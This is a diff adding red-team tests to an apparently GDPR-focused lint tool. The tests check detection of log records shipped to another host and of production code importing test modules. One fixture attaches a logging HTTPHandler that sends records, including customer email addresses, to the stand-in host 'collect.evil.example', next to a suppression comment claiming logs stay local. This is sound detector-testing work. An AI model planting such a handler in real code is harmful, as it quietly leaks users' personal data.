@@ -472,3 +472,71 @@ def test_identifiers_in_fullwidth_letters_are_read_as_python_reads_them(repo, mo
     doc = review(monkeypatch, repo)
     assert codes_at(doc, "shop/notify.py") == {"GDPR301"}
     assert_stale(monkeypatch, repo, keys)
+
+
+# ---- red team, round three: log records shipped elsewhere, test code that production imports -------
+
+SAYS_LOGS_STAY = '''\
+import logging
+
+log = logging.getLogger(__name__)
+
+
+def notify(customer):
+    log.info("c %s", customer.email)  # gdpr-lint: ignore[GDPR301] reason="logs stay on our hosts"
+'''
+
+
+def test_a_log_handler_that_sends_the_records_to_another_host(repo, monkeypatch, keys):
+    write(repo, "shop/notify.py", SAYS_LOGS_STAY)
+    commit_all(repo, "notify")
+    approve(monkeypatch, repo, keys)
+    write(repo, "shop/logconf.py", 'import logging.handlers\nlogging.getLogger("shop").addHandler(logging.handlers.'
+                                   'HTTPHandler("collect.evil.example", "/logs", secure=True))\n')
+    commit_all(repo, "ship the logs")
+    assert_stale(monkeypatch, repo, keys)
+    (found,) = [f for f in review(monkeypatch, repo)["findings"] if f["path"] == "shop/logconf.py"]
+    assert found["code"] == "GDPR303" and "sent to collect.evil.example by HTTPHandler" in found["message"]
+
+
+def test_log_handlers_that_keep_the_records_here_pass_the_gate(repo, monkeypatch, keys):
+    write(repo, "shop/notify.py", SAYS_LOGS_STAY)
+    write(repo, "shop/transport.py", "class HTTPHandler:\n    def __init__(self, host, url):\n        self.host = host\n")
+    write(repo, ".gdpr-lint.yaml", "first_party_domains: [shop.example]\n")
+    commit_all(repo, "notify")
+    approve(monkeypatch, repo, keys)
+    write(repo, "shop/logconf.py", '''\
+import logging
+import logging.handlers
+from shop.transport import HTTPHandler
+
+root = logging.getLogger("shop")
+root.addHandler(logging.StreamHandler())
+root.addHandler(logging.FileHandler("shop.log"))
+root.addHandler(logging.handlers.RotatingFileHandler("shop.log", maxBytes=1_000_000))
+root.addHandler(logging.handlers.SysLogHandler())
+root.addHandler(logging.handlers.SysLogHandler(address="/dev/log"))
+root.addHandler(logging.handlers.SysLogHandler(("localhost", 514)))
+root.addHandler(logging.handlers.HTTPHandler("logs.shop.example", "/ingest"))
+root.addHandler(HTTPHandler("collect.evil.example", "/logs"))
+''')
+    commit_all(repo, "log handlers that keep the records here")
+    assert_ok(monkeypatch, repo, keys)
+    assert not codes_at(review(monkeypatch, repo), "shop/logconf.py")
+
+
+def test_test_code_that_production_code_imports(repo, monkeypatch, keys):
+    write(repo, "shop/factories.py", LEAK)
+    write(repo, "tests/test_notify.py", "from shop.factories import notify\n")
+    commit_all(repo, "factories, used by the tests")
+    doc = approve(monkeypatch, repo, keys)
+    assert {"path": "shop/factories.py", "code": "test-code"} in [
+        {k: d[k] for k in ("path", "code")} for d in doc["not_analysed"]]
+    assert not codes_at(doc, "shop/factories.py")
+    assert_ok(monkeypatch, repo, keys)
+    write(repo, "shop/api.py", "from shop.factories import notify  # noqa\n" + (repo / "shop/api.py").read_text())
+    commit_all(repo, "the api uses a factory")
+    assert_stale(monkeypatch, repo, keys)
+    doc = review(monkeypatch, repo)
+    assert "GDPR301" in codes_at(doc, "shop/factories.py")
+    assert "shop/factories.py" not in [d["path"] for d in doc["not_analysed"]]
